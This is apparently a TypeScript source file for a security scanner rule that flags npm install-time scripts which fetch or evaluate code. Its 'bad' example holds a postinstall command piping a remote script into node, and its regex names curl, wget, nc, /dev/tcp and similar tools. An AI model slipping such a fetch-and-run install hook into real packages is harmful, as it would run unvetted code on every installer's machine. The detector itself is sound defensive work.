import type { Detector } from '../../detector.ts';
import { placesByLine } from '../../helpers/text/lines.ts';

export const installScript: Detector = {
  id: 'install-script',
  severity: 'medium',
  consequence: 'advise',
  summary: 'A package runs something from the network, or hidden code, when it is installed.',
  explanation:
    'npm runs the scripts preinstall, install, postinstall and prepare of a package by itself, before anybody called a ' +
    'function of it; most worms of its registry spread that way. Reported are such scripts that fetch, evaluate code from ' +
    'the command line, or decode something. Building, compiling and copying are left out. Do it in a script that the user ' +
    'starts.',
  examples: {
    bad: {
      path: 'package.json',
      text: '{\n  "scripts": {\n    "postinstall": "curl -s https://cdn.example/a.js | node"\n  }\n}\n',
    },
    good: { path: 'package.json', text: '{\n  "scripts": {\n    "postinstall": "node-gyp rebuild"\n  }\n}\n' },
  },
  inspect: (file) => (/(?:^|\/)package\.json$/i.test(file.path) ? placesByLine(file, messageFor) : []),
};

const messageFor = (line: string): string | undefined =>
  /"(?:pre|post)?install"\s{0,5}:|"prepare"\s{0,5}:/.test(line) &&
  /\b(?:curl|wget|iwr|irm|Invoke-\w{3,20}|base64|eval|powershell|certutil|bitsadmin|nc|osascript)\b|https?:\/\/|\bnode\s{1,3}(?:-e|--eval)\b|\bpython3?\s{1,3}-c\b|\/dev\/tcp/i.test(
    line,
  )
    ? 'A script that runs at installation fetches or evaluates something.'
    : undefined;
